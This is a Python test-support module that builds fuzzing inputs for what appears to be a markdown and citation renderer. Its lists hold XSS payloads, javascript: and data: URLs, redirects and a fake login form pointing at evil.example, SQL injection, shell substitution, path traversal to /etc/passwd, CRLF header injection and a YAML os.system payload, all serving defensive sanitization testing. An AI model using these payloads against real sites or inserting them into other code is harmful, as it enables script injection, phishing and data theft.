"""Input that nobody means well with."""

import json
import os
from pathlib import Path

import pytest
from hypothesis import strategies as st

SCRIPT = "alert(document.domain)"
# Ways in which a script has been run on somebody else's page: elements, attributes, addresses, breakouts.
MARKUP = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt\n>{SCRIPT}</sCrIpT>",
    f"<img src=x onerror={SCRIPT}>",
    f"<svg/onload={SCRIPT}>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<math href='javascript:{SCRIPT}'>CLICK",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'>",
    f"<details open ontoggle={SCRIPT}>",
    f'"><script>{SCRIPT}</script>',
    f"'><img src=x onerror={SCRIPT}>",
    f'" onfocus="{SCRIPT}" autofocus x="',
    f"</textarea><script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script><!--",
    f"]]><script>{SCRIPT}</script>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<form action=https://evil.example/><button>Log in again",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
    f"\\<script\\>{SCRIPT}\\</script\\>",
    f"<i>An italic title<script>{SCRIPT}</script></i>",
    "<span style='font-variant:small-caps' onclick='x()'>small</span>",
]
ADDRESSES = [
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f" javascript:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java&#115;cript:{SCRIPT}",
    f"\x01javascript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "/\\evil.example/",
    "https://bank.example@evil.example/",
    f'https://example.org/" onmouseover="{SCRIPT}',
    "https://example.org:99999/",
    "https://[::1",
]
LINKS = [
    form % address
    for address in ADDRESSES
    for form in ("[link](%s)", "[link](<%s>)", "![image](%s)", "<%s>", "[link]: %s\n\n[link]", "%s")
]
CHARACTERS = [
    "\x00",
    "\ud800",
    "a\udfffb",
    "\ufeff",
    "\ufffe",
    "\u202eevil\u202c",
    "\u2066\u2069\u200b\u200d\u2028\u2029",
    "\x1b[31m",
    "\x7f\x80\x9f",
    "e" + "\u0301" * 300,
    "\u1100" * 200,
    "\U000e0001\U0010ffff",
    "ﷺ" * 40,
    "ıİßﬁǆ",
    "🏴\U000e0067\U000e0062\U000e007f",
    "\r\r\n\n\r",
    "\u0085\v\f",
    " " * 500,
]
OTHERS = [
    "",
    "0",
    "-1",
    "9" * 400,
    "1e400",
    "NaN",
    "null",
    "None",
    "[]",
    "{}",
    "{{ 7|add:7 }}",
    "{% load x %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "%s%n%d",
    "%(title)s",
    "' OR 1=1 --",
    "'; DROP TABLE accounts_user; --",
    "\\'); \\",
    "$(touch x)",
    "`id`",
    "../../../../etc/passwd",
    "..\\..\\x",
    "CON",
    "=1+1",
    "@SUM(A1)",
    "a\r\nSet-Cookie: x=1",
    "a\r\nBcc: x@evil.example",
    "[@key]",
    "[@" + "k" * 300 + "]",
    "[-@a; see @b, p. 3; @]",
    "[1,2-99999]",
    "[^1]: note",
    "| a | b\n|---|\n| c",
    "::: {.callout-note}\n::: {.callout-note}",
    "---\ntitle: [x\n---",
    "---\ntitle: !!python/object/apply:os.system [id]\n---",
    "1. A. B. 2020;1(1):1. doi:10.1/<x>",
    "10.1002/(SICI)1097<script>",
]
NAUGHTY = [*MARKUP, *LINKS, *CHARACTERS, *OTHERS]

TOKENS = [
    *(
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "[@",
        "@",
        "[^",
        "]:",
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        "<a ",
        "&",
        "&#",
        ";",
        "\\",
    ),
    *("*", "**", "_", "__", "~", "^", "`", "```\n", "``", "'", '"', "#", "# ", "## ", "> ", "- ", "1. ", "    ", "\t"),
    *("|", "|-|\n", "\n", "\n\n", "---\n", ":::", "::: {.callout-note}\n", "{", "}", "{#id}", "=", "==\n", "\r", " "),
    *(
        "javascript:",
        "https://x.example/",
        "data:",
        "onclick=",
        "<script>",
        "</script>",
        "doi:10.1/x",
        "PMID: 1",
        "et al",
    ),
    *(
        "References",
        "Doe J",
        ". ",
        ", ",
        "2020;1(2):3-4.",
        "é",
        "漢",
        "e\u0301",
        "\u202e",
        "\u00a0",
        "\x00",
        "\ud800",
        "0",
        "a",
    ),
]
ANY_TEXT = st.text(st.characters(), max_size=60)
TEXT = st.lists(st.sampled_from(TOKENS) | ANY_TEXT | st.sampled_from(NAUGHTY), max_size=30).map("".join)

VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT | st.sampled_from(NAUGHTY),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(ANY_TEXT | st.sampled_from(TOKENS), inner, max_size=4),
    max_leaves=12,
)


def repeated(length):
    """Return (name, text) pairs: every token and many pairs of tokens, repeated up to so many characters."""
    once = {repr(token): token for token in TOKENS}
    pairs = {f"{left!r} {right!r}": left + right for left in TOKENS[:40:2] for right in TOKENS[1:40:3]}
    closed = {
        f"{left!r} … {right!r}": (left, right) for left, right in (("[", "]"), ("(", ")"), ("> ", "\n"), ("*", "*"))
    }
    texts = [(name, token * (length // len(token))) for name, token in (once | pairs).items()]
    return texts + [(name, left * (length // 2) + right * (length // 2)) for name, (left, right) in closed.items()]


def corpus_strings() -> list[str]:
    """Return the naughty strings of the corpus outside the project, or skip the test without it."""
    folder = os.environ.get("IMPRIMATUR_CORPUS")
    if not folder:
        pytest.skip("IMPRIMATUR_CORPUS names no folder")
    return json.loads((Path(folder) / "naughty_strings.json").read_text())
